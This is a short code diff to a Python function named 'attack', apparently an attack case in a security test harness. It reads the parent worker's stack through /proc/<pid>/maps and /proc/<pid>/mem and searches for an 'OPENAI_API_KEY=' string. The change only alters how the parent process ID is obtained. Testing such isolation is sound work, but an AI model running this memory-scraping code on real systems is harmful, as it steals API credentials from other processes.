@@ -1,12 +1,10 @@
 """Reads the worker's memory, as /proc shows it, for its keys."""
 
-import os
-
 
 def attack(world):
-    stack = next(line for line in open(f"/proc/{os.getppid()}/maps") if "[stack]" in line)
+    stack = next(line for line in open(f"/proc/{world['parent']}/maps") if "[stack]" in line)
     begin, end = (int(one, 16) for one in stack.split()[0].split("-"))
-    with open(f"/proc/{os.getppid()}/mem", "rb") as memory:
+    with open(f"/proc/{world['parent']}/mem", "rb") as memory:
         memory.seek(begin)
         data = memory.read(end - begin)
     place = data.find(b"OPENAI_API_KEY=")
